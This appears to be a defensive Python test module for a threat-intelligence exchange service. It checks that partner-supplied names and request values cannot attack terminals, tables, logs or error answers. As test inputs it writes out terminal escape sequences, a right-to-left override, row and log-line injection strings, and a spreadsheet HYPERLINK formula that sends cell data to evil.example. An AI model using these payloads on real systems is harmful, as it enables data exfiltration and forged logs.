"""Attempts on whoever reads what we write: terminals, logs, tables, error answers."""

from __future__ import annotations

import re
from unittest.mock import patch

from tests.attack import guards
from tests.attack.attempts import INSIDER, OUTSIDER, PARTNER, attempt
from tests.attack.world import World
from tests.scenes import B_IDENTITY, envelope, indicator
from tests.taxii.conftest import ROOT, objects_path

from cert_exchange.errors import CertExchangeError, InputRefused
from cert_exchange.http.answers import refused

NEVER = re.compile("(?!)")
ESCAPE = "\x1b]0;owned\x07\x1b[2J"

guards.add(
    "terminal: plain",
    "what a partner wrote can do nothing to a terminal or to a table",
    {"cert_exchange.cli.printing._DANGEROUS": NEVER},
)
guards.add(
    "terminal: plain JSON",
    "in JSON for a terminal the same characters are escapes",
    {"cert_exchange.cli.printing._DANGEROUS_IN_JSON": NEVER},
)
guards.add(
    "table: no formulas",
    "a cell of a table that is no terminal's begins no formula of a spreadsheet",
    {"cert_exchange.cli.printing._FORMULA": NEVER},
)


def _raw_line(event, **_options):
    return f"{event.get('event')} " + " ".join(f"{name}={value}" for name, value in event.items())


guards.add(
    "log: one line an event",
    "whatever is logged stays inside its JSON line",
    {"cert_exchange.logs._line": _raw_line},
)
guards.add(
    "log: names that look like names",
    "of an ignored parameter its name is logged only if it is a short plain word",
    {"cert_exchange.taxii.queries._PLAIN_NAME": re.compile("(?s).*")},
)


def _logging_texts(error, noted):
    return refused(CertExchangeError(detail=f"{error!r}"), noted)


def _answering_texts(error, noted):
    return refused(InputRefused(f"{error}"), noted)


guards.add(
    "log: no texts of faults",
    "of a fault its kind and place are logged, never its text",
    {"cert_exchange.http.application.failed": _logging_texts},
)
guards.add(
    "answers: no word of a fault",
    "a fault of ours is 500 with fixed words",
    {"cert_exchange.http.application.failed": _answering_texts},
)


def _posted(world: World, name: str) -> None:
    item = indicator("shown", by=B_IDENTITY)
    item["name"] = name
    got = world.a.client("b").post(objects_path(), envelope(item))
    assert got.json["success_count"] == 1, got.raw


@attempt("escape sequence in a name", guard="terminal: plain", by=PARTNER)
def escape_in_name(world: World) -> bool:
    """The name of an object clears the analyst's screen and renames its window."""
    _posted(world, f"x{ESCAPE}")
    return "\x1b" in world.run("search", "--from", "b").out


@attempt("text that runs backwards", guard="terminal: plain", by=PARTNER)
def backwards(world: World) -> bool:
    """A right-to-left override makes an address read as another."""
    _posted(world, "\u202e7.001.15.891")
    return "\u202e" in world.run("received", "b").out


@attempt("a row of one's own", guard="terminal: plain", by=PARTNER)
def own_row(world: World) -> bool:
    """Line ends and tabs in a name write further rows into a table that a script reads."""
    _posted(world, "x\nindicator--0\tfaked\tfaked")
    return any(
        line.startswith("indicator--0\tfaked")
        for line in world.run("search", "--from", "b").out.splitlines()
    )


@attempt("control characters in JSON", guard="terminal: plain JSON", by=PARTNER)
def control_in_json(world: World) -> bool:
    """C1 control characters and overrides in the JSON that is shown on a terminal."""
    _posted(world, "x\x9b2J\u202e")
    out = world.run("search", "--from", "b", "--json").out
    return "\x9b" in out or "\u202e" in out


@attempt("formula in a table", guard="table: no formulas", by=PARTNER)
def formula(world: World) -> bool:
    """A name that a spreadsheet runs as a formula when it opens the table."""
    _posted(world, '=HYPERLINK("https://evil.example/?"&A1,"ok")')
    cells = [
        cell
        for line in world.run("search", "--from", "b").out.splitlines()
        for cell in line.split("\t")
    ]
    return any(cell.startswith("=") for cell in cells)


@attempt("a log line of one's own", guard="log: one line an event", by=OUTSIDER)
def own_log_line(world: World) -> bool:
    """A line end in what is logged of a request, and after it a line that never happened."""
    with patch("cert_exchange.taxii.queries._PLAIN_NAME", re.compile("(?s).*")):
        world.a.client("b").get(
            f"{ROOT}collections/", "a%0A%7B%22event%22:%22partner%20suspended%22%7D=1"
        )
        world.a.client("b").get(f"{ROOT}collections/")
    return any(line.startswith('{"event":"partner suspended"}') for line in world.log.splitlines())


@attempt("a credential as a parameter", guard="log: names that look like names", by=INSIDER)
def credential_as_parameter(world: World) -> bool:
    """A partner's client puts its token where no value belongs, and our log keeps it."""
    token = world.a.credential("b").token
    world.a.client("b").get(f"{ROOT}collections/", token)
    return token in world.log


@attempt("secret in a traceback", guard="log: no texts of faults", by=INSIDER)
def secret_in_traceback(world: World) -> bool:
    """A fault whose text quotes a credential, read later in the log."""
    token = world.a.credential("b").token
    with patch("cert_exchange.taxii.pages.body", side_effect=ValueError(f"header {token}")):
        world.a.client("b").objects()
    return token in world.log


@attempt("words of a fault", guard="answers: no word of a fault", by=PARTNER)
def words_of_fault(world: World) -> bool:
    """A fault of ours told to the partner, with the file and the query in which it happened."""
    with patch(
        "cert_exchange.taxii.pages.body", side_effect=ValueError("SELECT secret FROM /srv/node")
    ):
        got = world.a.client("b").objects()
    return b"SELECT" in got.raw
